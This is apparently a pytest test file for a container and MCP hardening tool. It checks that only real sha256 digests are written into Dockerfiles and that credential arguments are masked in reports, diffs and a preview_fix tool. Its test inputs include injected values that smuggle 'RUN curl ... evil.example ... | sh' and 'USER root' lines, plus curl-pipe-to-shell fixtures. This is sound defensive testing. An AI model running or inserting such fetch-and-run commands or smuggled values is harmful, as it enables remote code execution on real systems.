"""Issue 18, `fix` input and the credential gate: digests from `--digests` or a registry are
written only when they are digests; credentials given as command-line arguments (`curl -u`,
`mysql -p`, `--api-key`, ...) are masked wherever a line is shown (reports, fix diffs, decisions,
`preview_fix`), while `fix --write` still writes the file's real bytes."""

from __future__ import annotations

import difflib
import json
import os
import shutil
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from conftest import run_cli, write_tree
from mcpharden.fixes import REDACTED_HUNK, Decision, Edit, FilePlan, shown_decisions
from mcpharden.fixes.plan import plan_fixes
from mcpharden.safety import redact_text
from mcpharden.scan import ScanOptions

DIGEST = "sha256:" + "0123456789abcdef" * 4
CURL_PASSWORD = "s3cr3tP4ss"
API_KEY = "sk-live-51HqLyj"  # too short for the token shape: only the option tells it is a key
PINNABLE = "FROM node:22\nUSER node\nCMD [\"node\", \"server.js\"]\n"


# Digests: only `sha256:` + 64 lowercase hex digits reach a file ----------------------------------


@pytest.mark.parametrize("value", [
    DIGEST + "\nRUN curl -fsSL https://evil.example/x.sh | sh",
    DIGEST + "\rUSER root",
    DIGEST.upper().replace("SHA256", "sha256"),
    "sha512:" + "ab" * 64,
    "sha256:1234",
    DIGEST + " ",
    12,
])
def test_digests_file_with_anything_but_a_digest_is_refused_and_nothing_written(tmp_path, value):
    repo = write_tree(tmp_path / "repo", {"Dockerfile": PINNABLE})
    digests = tmp_path / "digests.json"
    digests.write_text(json.dumps({"node:22": value}))
    for mode in ((), ("--write",)):
        result = run_cli("fix", str(repo), "--select", "image-not-pinned-by-digest", "--digests", str(digests), *mode)
        assert result.returncode == 2 and "Traceback" not in result.stderr
        assert "not a sha256 digest" in result.stderr and '"node:22"' in result.stderr
        assert result.stdout == ""
        assert len(result.stderr.splitlines()) == 1  # the hostile value is shown escaped, on the error's line
    assert (repo / "Dockerfile").read_text() == PINNABLE


@pytest.mark.parametrize("key", ["node:22\nRUN curl https://evil.example/x | sh", "node:22\rUSER root", "", "node :22",
                                 "a" * 600])
def test_digests_keys_must_be_image_references(tmp_path, key):
    repo = write_tree(tmp_path / "repo", {"Dockerfile": PINNABLE})
    digests = tmp_path / "digests.json"
    digests.write_text(json.dumps({"node:22": DIGEST, key: DIGEST}))
    result = run_cli("fix", str(repo), "--digests", str(digests), "--write")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "not an image reference" in result.stderr and len(result.stderr.splitlines()) == 1
    assert (repo / "Dockerfile").read_text() == PINNABLE


def test_a_valid_digests_file_still_pins(tmp_path):
    repo = write_tree(tmp_path / "repo", {"Dockerfile": PINNABLE})
    digests = tmp_path / "digests.json"
    digests.write_text(json.dumps({"node:22": DIGEST, "ghcr.io/github/github-mcp-server:latest": DIGEST,
                                   "127.0.0.1:5000/mcp/weather:1.2.0": DIGEST, "[::1]:5000/x/y": DIGEST}))
    result = run_cli("fix", str(repo), "--select", "image-not-pinned-by-digest", "--digests", str(digests), "--write")
    assert result.returncode == 0, result.stderr
    assert (repo / "Dockerfile").read_text().splitlines()[0] == f"FROM node:22@{DIGEST}"


@pytest.mark.parametrize("distroless", [False, True])
def test_a_resolver_answer_that_is_not_a_digest_never_reaches_the_file(tmp_path, distroless):
    """Every way a digest enters a fix (the Dockerfile fixer, the distroless rewrite that pins
    the images it names) takes the registry's answer through one check."""
    write_tree(tmp_path, {"Dockerfile": "FROM node:22\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev\n"
                                        "COPY . .\nCMD [\"node\", \"server.js\"]\n", "package.json": "{}"})
    asked = []

    def hostile(reference: str) -> str:
        asked.append(reference)
        return DIGEST + "\nUSER root"

    report = plan_fixes(tmp_path, ScanOptions(), {}, hostile, distroless)
    assert asked  # the resolver was asked, so the check had something to refuse
    assert all("USER root" not in plan.fixed_text() and "@sha256" not in plan.fixed_text() for plan in report.plans)
    refused = [d for d in report.decisions if d.rule_id == "image-not-pinned-by-digest"]
    assert refused and all("not a sha256 digest" in d.message for d in refused)


class _HostileRegistry(BaseHTTPRequestHandler):
    """Answers a manifest HEAD with a digest that is not one (upper-case hexadecimal)."""

    def do_HEAD(self):
        self.send_response(200)
        self.send_header("Docker-Content-Digest", "sha256:" + "ABCDEF0123456789" * 4)
        self.end_headers()

    def log_message(self, *args):
        pass


def test_fix_resolve_against_a_registry_that_answers_no_digest_writes_nothing(tmp_path):
    server = HTTPServer(("127.0.0.1", 0), _HostileRegistry)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        image = f"127.0.0.1:{server.server_address[1]}/mcp/weather:1"
        dockerfile = f"FROM {image}\nUSER 65532\n"
        repo = write_tree(tmp_path / "repo", {"Dockerfile": dockerfile})
        result = run_cli("fix", str(repo), "--select", "image-not-pinned-by-digest", "--resolve", "--write")
    finally:
        server.shutdown()
    assert result.returncode == 0 and "Traceback" not in result.stderr
    assert "Not fixed automatically" in result.stderr and image in result.stderr
    assert (repo / "Dockerfile").read_text() == dockerfile


# The credential gate: argument shapes ----------------------------------------------------------


@pytest.mark.parametrize("text, shown", [
    ("RUN curl -u admin:s3cr3tP4ss https://example.com/a", "RUN curl -u admin:*** https://example.com/a"),
    ("curl --user 'admin:s3cr3tP4ss' https://example.com", "curl --user 'admin:***' https://example.com"),
    ("/usr/bin/curl -uadmin:s3cr3tP4ss https://x", "/usr/bin/curl -uadmin:*** https://x"),
    ("HEALTHCHECK CMD curl -fsu admin:s3cr3tP4ss http://x || exit 1", "HEALTHCHECK CMD curl -fsu admin:*** http://x || exit 1"),
    ("mysql -uroot -pS3cretPass db", "mysql -uroot -p*** db"),
    ("mysql --password=S3cretPass db", "mysql --password=*** db"),
    ('["CMD", "mysqladmin", "ping", "-u", "root", "-pS3cretPass"]', '["CMD", "mysqladmin", "ping", "-u", "root", "-p***"]'),
    ("sshpass -p S3cretPass ssh deploy@host", "sshpass -p *** ssh deploy@host"),
    ("--api-key VALUEabc123", "--api-key ***"),
    ("--api-key=VALUEabc123", "--api-key=***"),
    ("--token VALUEabc123", "--token ***"),
    ("--password=VALUEabc123", "--password=***"),
    ("--password VALUEabc123", "--password ***"),
    ("PGPASSWORD=S3cretPass psql -h db", "PGPASSWORD=*** psql -h db"),
    ("redis-cli -h cache -a S3cretPass ping", "redis-cli -h cache -a *** ping"),
    ("docker login -u me -p S3cretPass registry.example.com", "docker login -u me -p *** registry.example.com"),
    ('"args": ["login", "-u", "me", "-p", "S3cretPass"]', '"args": ["login", "-u", "me", "-p", "***"]'),
    ('command: ["node", "server.js", "--api-key", "sk-live-51HqLyj"]', 'command: ["node", "server.js", "--api-key", "***"]'),
    ("command: [node, server.js, --token, abc123xyz]", "command: [node, server.js, --token, ***]"),
    ("command:\n  - --api-key\n  - sk-live-51HqLyj", "command:\n  - --api-key\n  - ***"),
    ("RUN mysql \\\n    -pS3cretPass -e 'select 1'", "RUN mysql \\\n    -p*** -e 'select 1'"),
    ("docker run -p 3000:3000 img; sshpass -p S3cretPass ssh h", "docker run -p 3000:3000 img; sshpass -p *** ssh h"),
])
def test_credential_arguments_are_masked(text, shown):
    assert redact_text(text) == shown


@pytest.mark.parametrize("text", [
    "docker run -p 3000:3000 -p 127.0.0.1:8080:80 mysql",
    '"args": ["run", "-i", "--rm", "-p", "3000:3000", "mcp/server"]',
    "echo \"$TOKEN\" | docker login --password-stdin -u me",
    "echo \"$TOKEN\" | docker login --password-stdin registry.example.com",
    "mysql -p db_name",
    "curl -u admin https://example.com",
    'curl -u "admin:${ADMIN_PASSWORD}" https://example.com',
    "curl -u $USER:$PASS https://example.com",
    "mysql -p$MYSQL_PASSWORD", "sshpass -p \"$SSHPASS\" ssh h", "redis-cli -a ${REDIS_PASSWORD} ping",
    "--password ${DB_PASSWORD}", "--api-key $API_KEY", '"--token", "${input:token}"',
    "RUN useradd -m -s /sbin/nologin app && curl -fsSL https://example.com/x | sh",
])
def test_ports_stdin_references_and_plain_options_are_not_masked(text):
    assert redact_text(text) == text


def test_decisions_pass_the_same_gate():
    shown = shown_decisions([Decision("Dockerfile", 3, "x", "run `sshpass -p S3cretPass ssh h`\x1b[2J by hand")])
    assert shown == "Not fixed automatically:\n  Dockerfile:3: x: run `sshpass -p *** ssh h`\\x1b[2J by hand\n"


# End to end: scan, fix (dry run and --write), preview_fix ----------------------------------------


DOCKERFILE = f"""\
FROM node:22
WORKDIR /app
RUN curl -u admin:{CURL_PASSWORD} https://downloads.example.com/install.sh | sh
COPY . .
CMD ["node", "server.js"]
"""
COMPOSE = f"""\
services:
  app:
    image: example/mcp-app:1
    command: ["node", "server.js", "--api-key", "{API_KEY}"]
    ports:
      - "3000:3000"
  worker:
    image: example/mcp-app:1
    command: node worker.js --api-key {API_KEY}
"""


def _leaks(text: str) -> list[str]:
    return [secret for secret in (CURL_PASSWORD, API_KEY) if secret in text]


@pytest.fixture
def credential_repository(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "Dockerfile").write_text(DOCKERFILE)
    (repo / "compose.yaml").write_text(COMPOSE)
    return repo


@pytest.mark.parametrize("format_name", ["text", "json", "sarif", "markdown", "github"])
def test_scan_shows_no_credential_argument_in_any_format(credential_repository, format_name):
    result = run_cli("scan", str(credential_repository), "--format", format_name, "--fail-on", "never")
    assert result.returncode == 0, result.stderr
    assert "curl -u admin:***" in result.stdout  # the finding that quotes the line is there
    assert not _leaks(result.stdout + result.stderr)


def test_fix_dry_run_masks_and_says_the_hunk_is_redacted(credential_repository):
    result = run_cli("fix", str(credential_repository))
    assert result.returncode == 0, result.stderr
    assert not _leaks(result.stdout + result.stderr)
    assert "+USER node" in result.stdout and "curl -u admin:***" in result.stdout
    assert '"--api-key", "***"' in result.stdout and "--api-key ***" in result.stdout
    lines = result.stdout.splitlines()
    for header in ("+++ b/Dockerfile", "+++ b/compose.yaml"):  # the note is right above the hunk it is about
        at = lines.index(header)
        assert lines[at + 1] == REDACTED_HUNK.rstrip("\n") and lines[at + 2].startswith("@@ ")
    workflow = lines.index("+++ b/.github/workflows/mcpharden-image-scan.yml")
    assert lines[workflow + 1].startswith("@@ ")  # nothing masked there, no note


def test_fix_write_keeps_the_real_bytes(credential_repository):
    result = run_cli("fix", str(credential_repository), "--write")
    assert result.returncode == 0, result.stderr
    assert not _leaks(result.stdout + result.stderr)
    dockerfile = (credential_repository / "Dockerfile").read_text()
    assert dockerfile == DOCKERFILE.replace("COPY . .\n", "COPY . .\nUSER node\n")
    compose = (credential_repository / "compose.yaml").read_text()
    assert "***" not in compose
    kept = [line for line in compose.splitlines() if line in COMPOSE.splitlines()]
    assert kept == [line for line in COMPOSE.splitlines() if "3000:3000" not in line]  # every other line as it was
    assert f'    command: ["node", "server.js", "--api-key", "{API_KEY}"]' in kept


def test_redacted_diff_does_not_apply_silently_and_a_clean_diff_still_does(credential_repository, tmp_path):
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    clean = write_tree(tmp_path / "clean", {"Dockerfile": "FROM node:22\nWORKDIR /app\nCOPY . .\nCMD [\"node\", \"s.js\"]\n"})
    for repo, applies in ((credential_repository, False), (clean, True)):
        diff = run_cli("fix", str(repo), "--select", "root-user").stdout
        assert diff
        subprocess.run(["git", "init", "-q", str(repo)], check=True)
        check = subprocess.run(["git", "apply", "--check", "-"], cwd=repo, input=diff, capture_output=True, text=True,
                               timeout=60)
        assert (check.returncode == 0) is applies, check.stderr


def test_a_diff_without_credentials_is_difflibs_byte_for_byte():
    """Two hunks, an escaped control character, no final newline: difflib's hunks, with the final
    line marked as unified diffs mark it and a note above the hunk whose escape does not apply."""
    from mcpharden.fixes import ESCAPED_HUNK

    original = "".join(f"# line {n}\n" for n in range(12)) + "FROM node:22\x1b[2J\nCOPY . .\nCMD [\"node\", \"s.js\"]"
    plan = FilePlan("Dockerfile", original, (Edit(2, 2, ("# changed",), "x"), Edit(15, 14, ("USER node",), "x")))
    shown = [line.replace("\x1b", "\\x1b") for line in original.splitlines(keepends=True)]
    fixed = [line.replace("\x1b", "\\x1b") for line in plan.fixed_text().splitlines(keepends=True)]
    expected = "".join(line if line.endswith("\n") else line + "\n\\ No newline at end of file\n" for line in difflib.unified_diff(
        shown, fixed, fromfile="a/Dockerfile", tofile="b/Dockerfile"))
    second = expected.index("@@ -", expected.index("@@ -") + 1)
    expected = expected[:second] + ESCAPED_HUNK + expected[second:]
    assert plan.diff() == expected and expected.count("@@ -") == 2


@pytest.mark.parametrize("text, secret", [
    # The `name:` that makes the value a credential is above the hunk's context.
    ("env:\n  - name: API_TOKEN\n    value: hunter2hunter2\n  # a\n  # b\nx: 1\n", "hunter2hunter2"),
    # A private key that begins above the hunk: its body lines are in the context.
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEpQIBAAKCAQEA1tHeBody\nQk9ESUxJTkVUV09LZXk\nc2VjcmV0cGFydA\n-----END RSA "
     "PRIVATE KEY-----\nx: 1\n", "c2VjcmV0cGFydA"),
])
def test_a_shown_line_is_judged_in_its_whole_file(text, secret):
    lines = text.splitlines()
    plan = FilePlan("k8s.yaml", text, (Edit(len(lines), len(lines), ("x: 2",), "x"),), "yaml")
    diff = plan.diff()
    assert secret not in diff and "+x: 2" in diff
    assert diff.splitlines()[2] == REDACTED_HUNK.rstrip("\n")
    assert secret in plan.fixed_text()


def test_preview_fix_answers_through_the_same_gate(credential_repository):
    import anyio
    from mcp import Client
    from mcp.client.stdio import StdioServerParameters

    server = StdioServerParameters(command=sys.executable, args=["-m", "mcpharden", "serve", "--root", str(credential_repository)],
                                   env=dict(os.environ))

    async def go():
        async with Client(server, read_timeout_seconds=120) as client:
            return await client.call_tool("preview_fix", {"path": "."})

    answer = "".join(getattr(block, "text", "") for block in anyio.run(go).content)
    assert "+USER node" in answer and "Not fixed automatically" in answer
    assert REDACTED_HUNK.rstrip("\n") in answer
    assert not _leaks(answer)
    assert answer == run_cli("fix", str(credential_repository)).stdout + shown_decisions(
        plan_fixes(credential_repository, ScanOptions(), {}).decisions)
